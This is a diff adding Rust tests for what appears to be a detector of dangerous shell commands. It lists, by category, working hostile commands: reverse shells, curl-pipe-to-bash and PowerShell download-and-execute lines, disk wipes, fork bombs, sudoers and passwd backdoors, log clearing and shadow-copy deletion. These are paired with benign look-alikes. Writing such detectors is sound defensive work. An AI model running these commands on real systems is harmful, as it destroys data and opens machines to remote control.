@@ -1,0 +1,261 @@
+use super::first;
+
+#[test]
+fn commands_are_found() {
+    let mut missed = Vec::new();
+    for (category, lines) in [
+        (
+            "recursive_delete",
+            &[
+                "rm -rf /tmp/x",
+                "sudo rm -rf --no-preserve-root /",
+                "rm -r -f build",
+                "rm --recursive x",
+                "cd /x && rm -fr *",
+                "find . -name '*.bak' -delete",
+                "find /x -exec rm {} \\;",
+                "ls | xargs rm -rf",
+                "sh -c 'rm -rf /x'",
+                "sudo su -c \"rm -r /x\"",
+                "if true; then rm -rf x; fi",
+                "for f in *; do rm -rf $f; done",
+                "(cd x; rm -rf y)",
+                "ssh host 'rm -rf /srv/x'",
+                "echo $(rm -rf x)",
+                "/bin/rm -rf x",
+                "- run: rm -rf dist",
+                "RUN rm -rf /var/lib/apt/lists",
+                "Remove-Item -Path $env:TEMP\\x -Recurse",
+                "if (Test-Path $Copy) { Remove-Item $Copy -Recurse -Force }",
+                "rd /s /q C:\\x",
+                "del /s /f /q c:\\*.bak",
+                "cmd /c \"rmdir /s /q C:\\x\"",
+                "$ rm -rf x",
+            ][..],
+        ),
+        (
+            "file_delete",
+            &[
+                "rm \"/etc/passwd\"",
+                "rm -f /etc/inputrc",
+                "shred -u -z notes.txt",
+                "unlink /etc/hosts",
+            ],
+        ),
+        (
+            "pipe_to_shell",
+            &[
+                "curl -fsSL https://a.example/install.sh | bash",
+                "wget -qO- http://198.51.100.7/a.sh | sh",
+                "curl https://a.example | sudo -E bash -",
+                "curl https://a.example | sudo sh",
+                "curl -s https://a.example | tee x.sh | bash",
+                "bash <(curl -s https://a.example)",
+                "bash -c \"$(curl -fsSL https://a.example)\"",
+                "sh -c \"`wget -O - https://a.example`\"",
+                "eval \"$(curl -s https://a.example)\"",
+                "source <(curl -s https://a.example)",
+                "curl https://a.example/x.py | python3",
+                "curl https://a.example/x.py | python3 -",
+                "echo cm0gLXJmIC8= | base64 -d | sh",
+                "base64 --decode <<< $x | bash",
+                "curl -s \\\n  https://a.example \\\n  | sh",
+                "curl -sSL https://a.example |\n  bash",
+                "OUTPUT=$(curl -s \"$URL\" | sh 2>&1)",
+                "su -c \"cd /tmp; curl -s https://a.example | bash\" x",
+                "IEX (New-Object Net.WebClient).DownloadString('http://a.example/p.ps1')",
+                "iwr https://a.example/p.ps1 | iex",
+                "iex(iwr https://a.example/p.ps1 -UseBasicParsing)",
+                "Invoke-Expression $code",
+                "try{ IEX (IWR 'https://a.example') }",
+                "powershell -c \"IEX (New-Object Net.WebClient).DownloadString('http://a.example')\"",
+                "mshta http://a.example/x.hta",
+            ],
+        ),
+        (
+            "reverse_shell",
+            &[
+                "bash -i >& /dev/tcp/10.1.2.3/4444 0>&1",
+                "nc -e /bin/sh 10.0.0.1 4444",
+                "ncat 10.0.0.1 4444 -e /bin/bash",
+                "rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 10.0.0.1 4444 > /tmp/f",
+                "exec 5<>/dev/tcp/10.0.0.1/4444",
+                "socat TCP:10.0.0.1:4444 EXEC:/bin/sh",
+                "0<&196;exec 196<>/dev/tcp/10.0.0.1/4444; sh <&196 >&196 2>&196",
+            ],
+        ),
+        (
+            "disk_wipe",
+            &[
+                "dd if=/dev/zero of=/dev/sda bs=1M",
+                "mkfs.ext4 /dev/sdb1",
+                "sudo wipefs -a /dev/sda",
+                "cat /dev/urandom > /dev/sda",
+                "format C: /q",
+                "Clear-Disk -Number 1",
+            ],
+        ),
+        (
+            "fork_bomb",
+            &[
+                ":(){ :|:& };:",
+                ":() { : | : & } ; :",
+                "bomb() { bomb | bomb & }; bomb",
+                "%0|%0",
+            ],
+        ),
+        (
+            "permission_weakening",
+            &[
+                "chmod -R 777 /",
+                "chmod 777 /etc/passwd",
+                "sudo chmod u+s /tmp/hello",
+                "chmod 4755 /tmp/x",
+                "chmod a+rwx x",
+                "chmod o+w x",
+                "setcap cap_setuid+ep /usr/bin/python3",
+            ],
+        ),
+        (
+            "persistence",
+            &[
+                "echo 'x' >> ~/.bashrc",
+                "echo key >> ~/.ssh/authorized_keys",
+                "cat key | tee -a /root/.ssh/authorized_keys",
+                "(crontab -l; echo '* * * * * x') | crontab -",
+                "echo x > /etc/cron.d/y",
+                "sudo sh -c 'echo /tmp/x.so > /etc/ld.so.preload'",
+                "cp x.service /etc/systemd/system/",
+                "echo 'u ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers",
+                "echo 'root2::0:0::/root:/bin/sh' >> /etc/passwd",
+                "schtasks /create /tn x /tr y",
+                "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d y",
+            ],
+        ),
+        (
+            "log_evasion",
+            &[
+                "history -c",
+                "unset HISTFILE",
+                "export HISTSIZE=0",
+                "HISTFILESIZE=0",
+                "ln -sf /dev/null ~/.bash_history",
+                "set +o history",
+                "rm /var/log/auth.log",
+                "echo '' > /var/log/messages",
+                "truncate -s 0 /var/log/syslog",
+                "journalctl --vacuum-time=0",
+                "wevtutil cl Security",
+                "Clear-EventLog -LogName Security",
+            ],
+        ),
+        (
+            "defence_evasion",
+            &[
+                "setenforce 0",
+                "ufw disable",
+                "iptables -F",
+                "systemctl stop firewalld",
+                "sudo service auditd stop",
+                "Set-MpPreference -DisableRealtimeMonitoring 1",
+                "netsh advfirewall set allprofiles state off",
+            ],
+        ),
+        (
+            "backup_delete",
+            &[
+                "vssadmin delete shadows /all /quiet",
+                "wbadmin delete catalog -quiet",
+                "wmic shadowcopy delete",
+                "bcdedit /set {default} recoveryenabled No",
+            ],
+        ),
+        (
+            "encoded_command",
+            &[
+                "powershell.exe -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA",
+                "powershell -e  JgAgACgAZwBjAG0AIAAoACcAaQBl",
+            ],
+        ),
+        (
+            "process_spawn",
+            &[
+                "python3 -c \"__import__('os').system('id')\"",
+                "perl -e 'exec \"/bin/sh\"'",
+                "ruby -e 'exec \"/bin/sh\"'",
+                "php -r 'system(\"id\");'",
+            ],
+        ),
+    ] {
+        lines
+            .iter()
+            .filter(|line| first(line) != category)
+            .for_each(|line| missed.push((category, *line)));
+    }
+    assert_eq!(missed, []);
+}
+
+#[test]
+fn harmless_commands_are_not() {
+    let lines = [
+        "git rm --cached notes.txt",
+        "git rm -r --cached x",
+        "rm notes.txt~",
+        "rm -f one-file",
+        "rm /tmp/x",
+        "kubectl get pods -n default",
+        "docker rm -f web",
+        "sh build.sh",
+        "curl -O https://a.example/f.tar.gz",
+        "curl https://a.example | jq .",
+        "curl -s https://a.example | python3 -m json.tool",
+        "curl https://a.example | tar xz",
+        "curl -s https://a.example | python3 -c 'import json,sys; print(json.load(sys.stdin))'",
+        "wget https://a.example && bash --version",
+        "echo \"echo hi\" | bash",
+        "base64 -d x > y",
+        "chmod 644 file.txt",
+        "chmod +x run.sh",
+        "chmod 600 ~/.ssh/id_rsa",
+        "chmod u+x,go-w x",
+        "dd if=/dev/zero of=test.img bs=1M count=10",
+        "mkfs.ext4 disk.img",
+        "crontab -l",
+        "crontab -e",
+        "history | grep x",
+        "cat ~/.bashrc",
+        "source ~/.bashrc",
+        "cat /etc/passwd",
+        "tail -f /var/log/syslog",
+        "nc -zv host 80",
+        "nc -l 4444",
+        "iex -S mix",
+        "iptables -L",
+        "ufw enable",
+        "systemctl restart nginx",
+        "find . -name x -print",
+        "bash -c \"echo 'hi'\"",
+        "python3 -c 'print(1)'",
+        "powershell -ExecutionPolicy Bypass -File x.ps1",
+        "powershell -Encoding utf8",
+        "# rm -rf /",
+        "ls -la # rm -rf /",
+        "echo \"rm -rf /\"",
+        "grep -r 'rm -rf' .",
+        "HISTSIZE=10000",
+        "truncate -s 1G disk.img",
+        "> /dev/null",
+        "cmd 2>/dev/null",
+        "reg query HKCU\\Software",
+        "schtasks /query",
+        "Remove-Item x.txt",
+        "del x.txt",
+        "format(x)",
+        "- Shred a file:",
+    ];
+    let found: Vec<_> = lines
+        .iter()
+        .filter(|line| !first(line).is_empty())
+        .collect();
+    assert_eq!(found, [&""; 0]);
+}
